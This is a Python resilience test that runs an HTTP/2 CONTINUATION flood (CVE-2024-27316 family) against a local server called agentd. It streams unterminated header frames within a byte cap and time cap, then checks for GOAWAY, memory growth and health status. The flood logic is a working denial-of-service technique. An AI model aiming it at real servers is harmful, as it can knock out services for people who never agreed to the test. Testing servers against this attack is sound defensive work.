#!/usr/bin/env python3
"""HTTP/2 CONTINUATION flood (CVE-2024-27316 family) against agentd: one h2c stream
opens with HEADERS that never end, followed by CONTINUATION frames without
END_HEADERS, bounded by a byte count and a time limit.

Pass: the server answers with GOAWAY (or closes the connection) once its header-list
or CONTINUATION limit is hit, long before the byte bound; keeps serving other clients;
and its resident memory stays within a bound. Prints one JSON line of figures; exits
1 when a defence failed.

    continuation_flood.py --url http://127.0.0.1:PORT --pid PID [--max-mib M] [--seconds S]
"""

import argparse
import json
import sys
import time

import hpack
from hpack import NeverIndexedHeaderTuple
from hyperframe.frame import ContinuationFrame, HeadersFrame

import procstat
from h2raw import Conn, host_port


def header_bytes(total: int) -> bytes:
    """`total` bytes of HPACK: fields that are never indexed, so the server must hold
    or decode each one."""
    enc = hpack.Encoder()
    field = enc.encode([NeverIndexedHeaderTuple("x-flood", "a" * 1000)], huffman=False)
    return field * (total // len(field) + 1)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--url", required=True, help="base URL, http://host:port")
    ap.add_argument("--pid", type=int, required=True, help="agentd's process id")
    ap.add_argument("--frame-bytes", type=int, default=1024, help="payload of each frame")
    ap.add_argument("--batch", type=int, default=8, help="frames per write")
    ap.add_argument("--max-mib", type=float, default=64.0, help="most header bytes to send")
    ap.add_argument("--seconds", type=float, default=10.0, help="longest attack")
    ap.add_argument("--rss-bound-mib", type=float, default=64.0, help="allowed RSS growth")
    a = ap.parse_args()
    host, port = host_port(a.url)
    max_bytes = int(a.max_mib * 2**20)

    cpu0, rss0 = procstat.cpu_seconds(a.pid), procstat.rss_bytes(a.pid)
    rss_peak = rss0
    conn = Conn(host, port)
    enc = hpack.Encoder()
    start_block = enc.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", f"{host}:{port}"), (":path", "/health")]
    )
    flood = header_bytes(1 << 20)
    started = time.monotonic()
    deadline = started + a.seconds
    conn.send(HeadersFrame(1, start_block, flags=["END_STREAM"]).serialize())
    sent, frames, at = 0, 0, 0
    batches = 0
    while sent < max_bytes and time.monotonic() < deadline and not conn.stopped:
        # A defended server reacts within the first frames: send those one at a time and
        # wait for its GOAWAY (writing on after its close draws a reset that can lose
        # the GOAWAY), then flood at full speed.
        careful = batches < 16
        n = 1 if careful else a.batch
        batch = bytearray()
        for _ in range(n):
            if at + a.frame_bytes > len(flood):
                at = 0
            batch += ContinuationFrame(1, flood[at : at + a.frame_bytes]).serialize()
            at += a.frame_bytes
        if not conn.send(bytes(batch)):
            break
        frames += n
        sent += n * a.frame_bytes
        batches += 1
        conn.poll(0.02 if careful else 0)
        if batches % 256 == 0:
            rss_peak = max(rss_peak, procstat.rss_bytes(a.pid))
    attack_s = time.monotonic() - started
    conn.wait_stopped(2.0)
    rss_peak = max(rss_peak, procstat.rss_bytes(a.pid))
    cpu = procstat.cpu_seconds(a.pid) - cpu0
    conn.close()
    time.sleep(0.2)
    rss1 = procstat.rss_bytes(a.pid)
    live = procstat.live_status(host, port)

    g = conn.goaway
    out = {
        "attack": "continuation_flood",
        "continuation_frames_sent": frames,
        "header_bytes_sent": sent,
        "attack_seconds": round(attack_s, 3),
        "goaway": g.as_dict() if g else None,
        "goaway_after_ms": round((g.at - started) * 1e3, 1) if g else None,
        "closed_by_server": conn.closed,
        "server_cpu_seconds": round(cpu, 3),
        "server_rss_mib": [round(rss0 / 2**20, 1), round(rss_peak / 2**20, 1), round(rss1 / 2**20, 1)],
        "health_live_after": live,
    }
    failures = []
    if not conn.stopped:
        failures.append(f"no GOAWAY and no close after {sent} header bytes in {attack_s:.1f} s")
    if live != 200:
        failures.append(f"GET /health/live answered {live} after the attack")
    if (rss_peak - rss0) / 2**20 > a.rss_bound_mib:
        failures.append(f"RSS grew {(rss_peak - rss0) / 2**20:.1f} MiB (bound {a.rss_bound_mib})")
    out["failures"] = failures
    print(json.dumps(out))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
